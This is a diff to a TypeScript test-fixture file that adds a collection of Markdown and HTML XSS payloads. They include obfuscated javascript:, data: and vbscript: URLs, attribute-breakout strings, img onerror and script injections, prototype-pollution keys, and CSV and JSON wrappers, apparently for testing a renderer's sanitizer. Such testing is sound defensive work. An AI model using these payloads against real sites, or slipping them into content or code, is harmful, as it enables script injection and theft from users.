@@ -109,3 +109,79 @@ export const xssPayloads = [
   `&lt;script&gt;${call}&lt;/script&gt;`,
   `<x onclick=${call} autofocus tabindex=1 onfocus=${call}>`,
 ]
+
+const lone = (link: string) => [
+  `[x](${link})`,
+  `[x](<${link}>)`,
+  `<${link}>`,
+  `[x]\n\n[x]: ${link}`,
+  `![x](${link})`,
+]
+
+/** Addresses that run a script, as Markdown, HTML and browsers may spell them. */
+const scriptAddresses = [
+  `javascript:${call}`,
+  `JaVaScRiPt:${call}`,
+  `javascript&colon;${call}`,
+  `javascript&#58;${call}`,
+  `&#106;avascript:${call}`,
+  `&#x6A;avascript:${call}`,
+  `java&Tab;script:${call}`,
+  `java&NewLine;script:${call}`,
+  `java\tscript:${call}`,
+  `\u0001javascript:${call}`,
+  `\\javascript:${call}`,
+  `javascript\\:${call}`,
+  `%6Aavascript:${call}`,
+  `vbscript:${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `data:image/svg+xml,<svg/onload=${call}>`,
+  `blob:https://example.org/x`,
+  `file:///etc/passwd`,
+  `//example.org/x.js`,
+  `\u00a0javascript:${call}`,
+  `x:javascript:${call}`,
+  `https:javascript:${call}`,
+  `feed:javascript:${call}`,
+]
+
+/** Texts that run a script on a page which trusts what Markdown makes of them. */
+export const markdownPayloads = [
+  ...scriptAddresses.flatMap(lone),
+  `[x](https://example.org "" onmouseover=${call} autofocus onfocus=${call} x="")`,
+  `[x](https://example.org '" onfocus=${call} autofocus x="')`,
+  `[x](https://example.org/" onfocus=${call} autofocus x=")`,
+  `![" onerror=${call} x="](https://example.org/x.png "" onerror=${call}")`,
+  `![<img src=x onerror=${call}>](x)`,
+  `[![x](x" onerror=${call})](javascript:${call})`,
+  `[x][y]\n\n[y]: javascript:${call} "title"`,
+  `[x]\n\n[x]: <javascript:${call}> '"><img src=x onerror=${call}>'`,
+  `[^"><img src=x onerror=${call}>]\n\n[^"><img src=x onerror=${call}>]: note`,
+  `[^x]\n\n[^x]: <img src=x onerror=${call}> [y](javascript:${call})`,
+  `[^__proto__] [^constructor]\n\n[^__proto__]: a\n[^constructor]: b`,
+  `# " onfocus=${call} autofocus x="`,
+  `# <img src=x onerror=${call}>`,
+  `# code\n\n# L1\n\n# go\n\n# __proto__\n\n# constructor`,
+  `\`\`\`"><img src=x onerror=${call}>\ncode\n\`\`\``,
+  `\`\`\`html\n</code></pre><img src=x onerror=${call}>\n\`\`\``,
+  `\`</code><img src=x onerror=${call}>\``,
+  `| <img src=x onerror=${call}> | b |\n|:-:|-:|\n| </td><script>${call}</script> | x |`,
+  `| a |\n|:-" onfocus=${call} |\n| b |`,
+  `- [ ] <img src=x onerror=${call}>\n- [x" onfocus=${call}] y`,
+  `1${'0'.repeat(8)}. <img src=x onerror=${call}>`,
+  `https://example.org/"onfocus=${call} autofocus`,
+  `<https://example.org/" onfocus=${call} autofocus>`,
+  `javascript://example.org/%0a${call}`,
+  `&lt;img src=x onerror=${call}&gt; &#60;img src=x onerror=${call}&#62;`,
+  `<div>\n<img src=x onerror=${call}>\n</div>`,
+  `> <script>${call}</script>`,
+  `a  \n<img src=x onerror=${call}>`,
+  `***<img src=x onerror=${call}>***`,
+  `\\<img src=x onerror=${call}>`,
+  `---\ntitle: <img src=x onerror=${call}>\n---\n`,
+]
+
+/** Cells, members and names that run a script on a page which trusts tables or JSON. */
+export const asTable = (text: string) =>
+  `a,"${text.replaceAll('"', '""')}"\n"${text.replaceAll('"', '""')}",1\n`
+export const asJson = (text: string) => JSON.stringify({ [text]: [text, 1] })
